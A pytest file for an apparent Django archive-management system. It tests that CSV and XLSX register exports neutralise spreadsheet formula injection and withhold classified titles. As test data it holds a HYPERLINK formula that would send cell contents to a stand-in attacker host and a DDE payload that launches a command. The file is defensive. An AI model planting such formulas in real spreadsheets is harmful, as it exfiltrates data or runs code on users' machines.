"""Registers as files: a title typed as a formula stays text in every csv/xlsx export
(catalogue, destruction register, lending register), and the lending register withholds
the titles its web page withholds."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from repository.models import Classification
from repository.spreadsheets import inert_cell
from retention.models import LoanRequest
from retention.services.disposition import appraise, approve_destruction, destroy_record
from retention.services.filing import file_record
from tests.retention.admin_support import staff
from tests.retention.factories import user_with

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("关于=号的说明", "关于=号的说明"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_inert_cell(value, expected):
    assert inert_cell(value) == expected


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_inert(response_csv, response_xlsx) -> None:
    cells = [value for row in csv_rows(response_csv) for value in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    xlsx = xlsx_cells(response_xlsx)
    assert not [c for c in xlsx if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in xlsx]
    for response in (response_csv, response_xlsx):
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"].startswith("attachment;")


def test_filing_catalogue(make_record, fonds, branch, client):
    filer = staff("file_records", pages=[branch, fonds])
    file_record(make_record(title=FORMULA), fonds=fonds, period="Y", user=filer)
    client.force_login(filer)
    url = "/admin/retention/catalogue/?format="
    assert_inert(client.get(url + "csv"), client.get(url + "xlsx"))


def test_destruction_register(make_record, fonds, branch, archivist, client):
    record = make_record(title=FORMULA, year=2010, date_written=date(2010, 5, 1))
    filed = file_record(record, fonds=fonds, period="D10", user=archivist)
    appraisal = appraise(filed, decision="destroy", reasons="期满", user=archivist)
    for name in ("leader1", "leader2"):
        approve_destruction(appraisal, approver=user_with("approve_destruction", username=name))
    destroy_record(appraisal, user=archivist, supervisors=["张三", "李四"], remarks="-碎纸")
    reader = staff("view_destructionregisterentry", pages=[branch, fonds])
    client.force_login(reader)
    url = "/admin/retention/destruction-register/?format="
    csv_response, xlsx_response = client.get(url + "csv"), client.get(url + "xlsx")
    assert_inert(csv_response, xlsx_response)
    assert "'-碎纸" in [v for row in csv_rows(csv_response) for v in row]


@pytest.fixture
def lent(make_record, fonds, archivist):
    public = make_record(title=FORMULA, classification=Classification.INTERNAL)
    secret = make_record(title="机密方案", classification=Classification.SECRET)
    borrower = user_with(username="chief", clearance=Classification.SECRET)
    loan = LoanRequest.objects.create(
        borrower=borrower, purpose="=cmd|' /C calc'!A0", form="reading"
    )
    for record in (public, secret):
        loan.items.create(filed_record=file_record(record, fonds=fonds, period="Y", user=archivist))
    return loan


def test_lending_register_is_inert(lent, branch, fonds, client):
    keeper = staff("view_all_loans", pages=[branch, fonds], clearance=Classification.SECRET)
    client.force_login(keeper)
    csv_response = client.get("/admin/retention/loans/?format=csv")
    assert_inert(csv_response, client.get("/admin/retention/loans/?format=xlsx"))
    assert "'=cmd|' /C calc'!A0" in [v for row in csv_rows(csv_response) for v in row]


def test_lending_register_withholds_what_the_page_withholds(lent, branch, fonds, client):
    keeper = staff("view_all_loans", pages=[branch, fonds], clearance=Classification.INTERNAL)
    client.force_login(keeper)
    page = client.get("/admin/retention/loans/").content.decode()
    secret_code = lent.items.get(filed_record__title="机密方案").filed_record.archival_code
    assert secret_code in page and "机密方案" not in page
    for fmt in ("csv", "xlsx", "pdf"):
        response = client.get(f"/admin/retention/loans/?format={fmt}")
        assert response.status_code == 200
        if fmt == "csv":
            rows = csv_rows(response)
            secret_row = next(row for row in rows if secret_code in row)
            assert "机密方案" not in response.content.decode("utf-8-sig")
            assert secret_row[5] == "" and secret_row[6] == ""  # 题名, 密级 withheld
        elif fmt == "xlsx":
            values = [c.value for c in xlsx_cells(response)]
            assert secret_code in values and "机密方案" not in values
